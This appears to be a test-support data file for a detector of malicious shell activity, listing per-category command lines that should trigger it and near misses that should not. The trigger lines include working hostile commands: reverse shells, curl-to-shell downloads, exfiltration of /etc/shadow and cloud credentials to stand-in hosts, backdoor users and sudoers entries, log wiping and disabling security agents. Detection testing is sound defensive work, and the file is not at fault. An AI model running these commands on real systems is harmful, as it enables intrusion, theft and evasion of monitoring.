// For each kind of indicator lines that raise it, and near misses that must not. Data only: never paste any of it into a shell.

import { WINDOWS_CASES } from './indicator-cases-windows.test-support';

/** Lines of a shell script, but for the Windows kinds, which stand in PowerShell or batch. */
export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
  'pipe-to-shell': {
    raise: [
      'wget -qO- files.badhost.net/a|sh',
      'curl -s https://a.badhost.net/x | python3 -',
      'source <(curl -s https://a.badhost.net)',
      'curl -s https://a.badhost.net/x.gz | gunzip | sudo bash',
      'exec(urlopen("http://a.badhost.net/x").read())',
      'curl -o /x https://a.badhost.net/x; sh /x',
    ],
    miss: [
      'curl -s https://a.badhost.net | tee /etc/x.sh',
      'echo a | bash x.sh',
      'curl -O https://a.badhost.net/setup.sh',
    ],
  },
  'runs-hidden': {
    raise: [
      'echo aWQ= | base64 -d | sh',
      'cat a.b64 | base64 -d | python3',
      'eval "$(echo aWQ= | base64 -d)"',
      `python3 -c "exec(__import__('base64').b64decode('aWQ='))"`,
    ],
    miss: ['echo "$CA" | base64 -d > /etc/ca.crt', 'eval "$(ssh-agent -s)"'],
  },
  obfuscation: {
    raise: [
      String.raw`printf '\x63\x75\x72\x6c\x20\x2d\x73\x20'`,
      'iex ([char]99+[char]117+[char]114)',
      'curl${IFS}-s${IFS}192.0.2.9',
      'i`e`x $a',
      'cmd /c p^o^w^e^r^s^h^e^l^l -file a.ps1',
    ],
    miss: [String.raw`printf '\x1b[0m'`, "IFS=$'\\n'", '[char]65', 'curl -w %{http_code} a ^', 'echo 2^3^4'],
  },
  'base64-decode': {
    raise: ['base64 --decode a'],
    miss: ['base64 -w0 a', 'openssl enc -aes-256-cbc -d -in a'],
  },
  'runs-from-temporary': {
    raise: ['nohup /tmp/.ntpd &', 'cp a /dev/shm/b', 'chmod +x /tmp/install.sh'],
    miss: ['ls /tmp/.X11-unix', 'mount -o remount /dev/shm', 'chmod 644 /tmp/a'],
  },
  'remote-fetch': {
    raise: ['curl http://203.0.113.9/x', 'curl https://transfer.sh/abc/x', 'aws s3 cp s3://bucket/a /tmp/a'],
    miss: ['curl http://127.0.0.1:8080/health', 'curl http://localhost/x', 'curl http://10.0.0.4/x'],
  },
  miner: {
    raise: [
      './xmrig -o stratum+tcp://pool.badhost.net:3333',
      `a -u 4${'A'.repeat(1)}${'b'.repeat(93)}`,
      'modprobe msr; wrmsr -a 0x1a4 0xf',
    ],
    miss: ['apt-get install -y miniupnpc', 'echo admin mining-report'],
  },
  'reverse-shell': {
    raise: [
      'bash -i >& /dev/tcp/192.0.2.9/443 0>&1',
      'exec 5<>/dev/tcp/192.0.2.9/443',
      'nc 192.0.2.9 443 -e /bin/sh',
      `php -r '$s=fsockopen("192.0.2.9",1);exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `python -c 'import pty;pty.spawn("/bin/bash")'`,
      '$c = New-Object System.Net.Sockets.TCPClient("192.0.2.9",443)',
    ],
    miss: [
      'nc -z -w5 db 5432',
      'timeout 1 bash -c "</dev/tcp/db/5432"',
      'socat TCP-LISTEN:80,fork TCP:10.0.0.4:80',
      'rsync -e ssh a b:',
    ],
  },
  'shell-connection': { raise: ['timeout 1 bash -c "</dev/tcp/db/5432"'], miss: ['ls /dev/tcp'] },
  tunnel: {
    raise: [
      'ssh -fN -R 2222:localhost:22 t@192.0.2.9',
      'cloudflared tunnel run x',
      'tailscale up --authkey $K',
      'amazon-ssm-agent -register -code abc -id 1111 -region us-east-1',
    ],
    miss: ['amazon-ssm-agent -y', 'ssh -L 8080:db:80 t@b', 'ssh -o Batch=no t@b ls -R', 'rsync -R a b'],
  },
  exfiltration: {
    raise: [
      'curl -F f=@/etc/shadow http://192.0.2.9/',
      'curl --data-binary @/tmp/out.txt https://a.badhost.net',
      'env | curl -d @- https://a.badhost.net',
      'aws s3 cp /root/.aws/credentials s3://loot/a',
      'dig $(hostname).q.badhost.net',
      'aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --user-ids 1',
    ],
    miss: [
      'aws s3 cp /opt/report.csv s3://reports/',
      'curl -d "status=ready" https://a.example.net',
      'dig +short db.internal.example.com',
    ],
  },
  'attack-tool': { raise: ['./linpeas.sh -a'], miss: ['echo sliver of cake', 'reptile house'] },
  'authorized-keys': {
    raise: [
      'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys',
      "sed -i '$a ssh-rsa AAAA' ~/.ssh/authorized_keys",
      'ssh-import-id gh:someone',
      '"sshAuthorizedKeys": ["ssh-ed25519 AAAA x"]',
    ],
    miss: ['ssh-keygen -A', 'ls ~/.ssh/known_hosts'],
  },
  sudoers: {
    raise: ['echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/x', 'x ALL=(ALL) NOPASSWD: ALL', 'visudo -c'],
    miss: ['sudo systemctl restart app', 'echo password'],
  },
  'user-added': {
    raise: [
      'useradd -o -u 0 helper',
      'echo "root:x" | chpasswd',
      'useradd --system prometheus',
      'useradd -m deploy',
      'usermod -aG sudo deploy',
      'net user helper P4ss /add',
      'net user Administrator P4ss /active:yes',
    ],
    miss: ['net user Administrator /active:no', 'id deploy', 'cat /etc/passwd', 'net use Z: \\\\fs\\share'],
  },
  suid: {
    raise: [
      'chmod u+s /usr/local/bin/x',
      'chmod 4755 /usr/local/bin/x',
      'setcap cap_setuid+ep /usr/bin/python3',
    ],
    miss: [
      'chmod 2775 /var/www',
      'chmod g+s /srv',
      'chmod 755 /usr/bin/x',
      'setcap cap_net_bind_service=+ep /usr/bin/node',
    ],
  },
  'ssh-opened': {
    raise: [
      "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
      'echo "PermitRootLogin yes" >> /etc/ssh/sshd_config',
    ],
    miss: [
      'echo "PasswordAuthentication no" >> /etc/ssh/sshd_config',
      'echo "PermitRootLogin no" >> /etc/ssh/sshd_config',
    ],
  },
  'credential-theft': {
    raise: ['cat /etc/shadow', 'tar cz /home/a/.ssh/id_rsa', 'reg save HKLM\\SAM C:\\a'],
    miss: ['chmod 600 /etc/shadow', 'ssh -i ~/.ssh/id_rsa a@b', 'ls ~/.aws'],
  },
  cron: {
    raise: [
      '(crontab -l; echo "* * * * * /tmp/a") | crontab -',
      '*/5 * * * * root curl -s http://192.0.2.9/a | sh',
      'cp a /etc/cron.d/a',
      '@reboot root /opt/app/start',
      'echo /opt/a | at now + 5 minutes',
      'echo "curl http://192.0.2.9/a | sh" | at midnight',
      'schtasks /create /tn a',
    ],
    miss: ['echo "a * b"', 'systemctl status sshd', 'echo 1 2 3 4 5 /x', 'look at 12:00'],
  },
  systemd: {
    raise: [
      'ExecStart=/bin/bash -c "curl http://192.0.2.9/a | sh"',
      'echo /usr/lib/x.so > /etc/ld.so.preload',
      'cp app.service /etc/systemd/system/app.service',
      'echo /opt/start >> /etc/rc.local',
      'echo /tmp/start >> /etc/rc.local',
    ],
    miss: ['systemctl enable --now nginx', 'ExecStart=/usr/bin/python3 /opt/app.py', 'ldconfig'],
  },
  'login-hook': {
    raise: [
      "echo 'curl -s http://192.0.2.9/p | sh' >> ~/.bashrc",
      'echo "export A=b" >> /etc/profile.d/app.sh',
      'echo "auth sufficient pam_exec.so /opt/x" >> /etc/pam.d/sshd',
    ],
    miss: ['source ~/.bashrc', 'cat /etc/profile', 'ls /etc/pam.d'],
  },
  udev: {
    raise: [`echo 'ACTION=="add", RUN+="/dev/shm/u"' > a`, 'cp 70-ebs.rules /etc/udev/rules.d/70-ebs.rules'],
    miss: ['udevadm settle', 'RUN=1'],
  },
  rootkit: { raise: ['insmod d/x.ko'], miss: ['modprobe br_netfilter', 'lsmod'] },
  'runs-every-boot': {
    raise: ['bootcmd:', 'cp a /var/lib/cloud/scripts/per-boot/a', 'cloud-init clean --logs'],
    miss: ['cloud-init status --wait', 'frequency of boots'],
  },
  'agent-stopped': {
    raise: [
      'systemctl stop amazon-ssm-agent',
      'pkill -9 -f "nginx|auditd|rsyslogd"',
      'snap stop amazon-ssm-agent && snap start amazon-ssm-agent',
      'ln -s /dev/null /etc/systemd/system/auditd.service',
      'systemctl disable --now a b auditd',
      'service auditd stop',
      'yum remove -y falcon-sensor',
      'auditctl -e 0',
      'aws cloudtrail stop-logging --name x',
      'Stop-Service -Name AmazonSSMAgent',
      'echo "127.0.0.1 ssm.eu-west-1.amazonaws.com" >> /etc/hosts',
    ],
    miss: [
      'systemctl start amazon-ssm-agent',
      'systemctl restart rsyslog',
      'systemctl stop nginx',
      'systemctl enable --now auditd',
      'yum install -y falcon-sensor',
      'auditctl -l',
      'Set-Service -Name AmazonSSMAgent -StartupType Automatic',
    ],
  },
  'protection-off': {
    raise: [
      'setenforce 0',
      'iptables -F',
      'ufw disable',
      'systemctl stop apparmor',
      'netsh advfirewall set allprofiles state off',
    ],
    miss: ['getenforce', 'iptables -t nat -A POSTROUTING -j MASQUERADE', 'ufw allow 22', 'SELINUX=enforcing'],
  },
  'anti-forensics': {
    raise: [
      'unset HISTFILE',
      'rm -rf /var/log/secure',
      'cat /dev/null > /var/log/auth.log',
      'wevtutil cl Security',
      '[Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($name)',
      'chattr +i /etc/x',
      'rm -f -- "$0"',
    ],
    miss: [
      'export HISTTIMEFORMAT="%F %T "',
      'find /var/log/app -mtime +14 -delete',
      'rm -rf /var/log/app/old',
      'echo done > /tmp/log',
      'chattr -i /etc/x',
      'touch /var/log/app.log',
    ],
  },
  imds: {
    raise: [
      'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'aws ec2 modify-instance-metadata-options --http-tokens optional',
      'curl http://169.254.169.254/latest/meta-data/instance-id',
    ],
    miss: [
      'NO_PROXY=169.254.170.2',
      'aws ec2 modify-instance-metadata-options --http-tokens required',
      'ping 169.254.1.1',
    ],
  },
  'exposes-credentials': {
    raise: ['aws configure export-credentials', 'aws secretsmanager get-secret-value --secret-id a'],
    miss: [
      'aws configure list',
      'aws secretsmanager describe-secret --secret-id a',
      'aws sts get-caller-identity',
    ],
  },
  'iam-change': {
    raise: ['aws iam create-access-key --user-name x', 'iam.attach_user_policy(UserName="x")'],
    miss: ['aws iam get-user', 'aws iam list-roles'],
  },
  'cloud-change': {
    raise: [
      'aws ssm send-command --document-name AWS-RunShellScript',
      'aws ec2 authorize-security-group-ingress --group-id sg-1 --cidr 0.0.0.0/0',
    ],
    miss: [
      'aws ec2 modify-instance-attribute --instance-id i-1 --no-source-dest-check',
      'aws ec2 describe-instances',
      'aws s3 ls',
    ],
  },
  'container-escape': {
    raise: [
      'docker run -v /:/host alpine sh',
      'nsenter --target 1 --mount sh',
      'dockerd -H tcp://0.0.0.0:2375',
      'superpowered = true',
      'docker run --privileged alpine',
    ],
    miss: [
      'docker run -v /opt/data:/data alpine',
      'docker run -p 80:80 web',
      'nsenter -t 4711 -n ip a',
      'docker -H tcp://10.0.0.4:2376 ps',
    ],
  },
  ...WINDOWS_CASES,
};
